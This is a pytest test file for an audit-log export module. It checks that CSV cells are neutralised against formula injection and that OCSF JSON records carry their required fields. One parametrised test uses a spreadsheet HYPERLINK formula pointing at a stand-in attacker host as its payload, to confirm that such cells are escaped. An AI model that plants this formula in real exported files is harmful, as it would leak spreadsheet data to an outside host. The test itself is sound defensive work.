"""The record as files: nothing in them computes, and OCSF's required parts are there."""

import csv
import io
import json
from datetime import UTC, datetime
from uuid import uuid4

import pytest

from apps.audit.formats import FIELDS, csv_lines, harmless, ocsf, ocsf_lines
from apps.audit.models import AuditEvent

pytestmark = pytest.mark.pure


def event(**more):
    values = {"id": 7, "tenant_id": uuid4(), "act": "ec2.instance.launch", "result": "ok", "who_kind": "user"}
    values |= {"who_id": "u-1", "who_name": "Ada", "who_address": "192.0.2.1", "who_session": "s"}
    return AuditEvent(**values | {"at": datetime(2026, 11, 20, 8, 0, 0, 123456, UTC)} | more)


def read(*events):
    return [dict(zip(FIELDS, row, strict=True)) for row in csv.reader(io.StringIO(csv_lines(events).decode()))]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_cell_that_would_be_a_formula_is_text(sign):
    text = f'{sign}HYPERLINK("https://evil.example/?"&A1)'
    (row,) = read(event(target_name=text, reason=text, who_name=text, step=text))
    for name in ("target_name", "reason", "who_name", "step"):
        assert row[name] == f"'{text}"


def test_whatever_is_recorded_no_cell_begins_a_formula_at_any_separator():
    text = '=1+1;=2+2,=3+3\n=4+4\t=5+5"=6'
    line = csv_lines([event(target_name=text, params={"=x": text}, request_ids=[text], before=text)]).decode()
    for cell in next(csv.reader(io.StringIO(line))):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    # All cells stand in quotes, so another separator doesn't split them.
    assert '";"' not in line.replace('""', "")
    assert line.startswith('"7","2026-11-20T08:00:00.123456Z"')


def test_an_ordinary_cell_stays_as_it_is():
    assert harmless("web-1 (a=b)") == "web-1 (a=b)"
    (row,) = read(event(params={"a": 1}, operation=None))
    assert (row["params"], row["operation"], row["before"]) == ('{"a":1}', "", "")


def test_the_columns_are_the_records():
    rest = {field.name for field in AuditEvent._meta.concrete_fields} - set(FIELDS)
    assert rest == {"tenant_id", "xid"}


@pytest.mark.parametrize(
    ("act", "activity"),
    [
        ("ec2.instance.launch", 1),
        ("s3.object.read", 2),
        ("ec2.instance.stop", 3),
        ("ec2.instance.terminate", 4),
        ("users.user.sign-in", 99),
    ],
)
def test_ocsf_has_what_it_requires(act, activity):
    found = ocsf(event(act=act, target_id="i-1", target_account="a-1", target_region="eu-west-1", request_ids=["r"]))
    required = {"activity_id", "category_uid", "class_uid", "type_uid", "time", "severity_id", "metadata", "actor"}
    assert required | {"api", "src_endpoint", "cloud"} <= found.keys()
    assert (found["class_uid"], found["activity_id"], found["type_uid"]) == (6003, activity, 600300 + activity)
    assert found["time"] == 1795161600123
    assert (found["metadata"]["version"], found["metadata"]["profiles"]) == ("1.6.0", ["cloud"])
    assert found["api"] == {"operation": act, "service": {"name": act.partition(".")[0]}, "request": {"uid": "r"}}
    assert found["src_endpoint"] == {"ip": "192.0.2.1"}


@pytest.mark.parametrize(
    ("result", "status"), [("ok", 1), ("failed", 2), ("denied", 2), ("intent", 99), ("unknown", 99)]
)
def test_ocsf_tells_how_it_ended(result, status):
    found = ocsf(event(result=result))
    assert (found["status_id"], found["status_code"]) == (status, result)


def test_ocsf_is_a_line_each():
    lines = ocsf_lines([event(reason="a\nb"), event(params={"x": "\u2028"})]).splitlines()
    assert [json.loads(line)["class_uid"] for line in lines] == [6003, 6003]
